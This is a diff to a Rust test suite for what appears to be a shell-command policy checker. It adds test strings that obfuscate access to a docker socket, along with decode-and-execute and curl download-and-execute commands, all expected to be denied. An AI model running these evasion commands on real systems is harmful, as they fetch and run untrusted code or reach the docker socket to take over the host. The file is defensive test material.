@@ -93,6 +93,8 @@ fn a_word_that_comes_to_be_the_socket_is_refused() {
         "cat > /tmp/x <<E\na=docker\ndial /h/$a.sock\nE\nchmod +x /tmp/x; /tmp/x",
         "echo 'a=docker; dial /h/$a.sock' >> x; . x",
         "echo 'a=docker; dial /h/$a.sock' | tee -a /x >/dev/null; . /x",
+        "echo 'a=docker; dial /h/$a.sock' >/x.new; mv -f /x.new /x; sh /x",
+        "echo 'a=docker; dial /h/$a.sock' >/tmp/x; cp /tmp/x /bin/; /bin/x",
     ] {
         expect(&script(text), Outcome::Deny, "DKR110", text);
     }
@@ -147,6 +149,7 @@ fn a_file_that_a_script_decides_is_told() {
         "base64 -d /etc/what | while read a b; do $a $b; done",
         "base64 -d /etc/what > /tmp/x; sh /tmp/x",
         "base64 -d /etc/what | sudo tee /tmp/x; sh /tmp/x",
+        "base64 -d /etc/what >/tmp/x; install -m 755 /tmp/x /bin/x; /bin/x",
         "curl http://x/y >/tmp/x && chmod +x /tmp/x && exec /tmp/x a",
         "for a in 1 2 3 4 5 doc; do for b in 1 2 3 4 ker; do dial /h/$a$b.sock; done; done",
     ] {
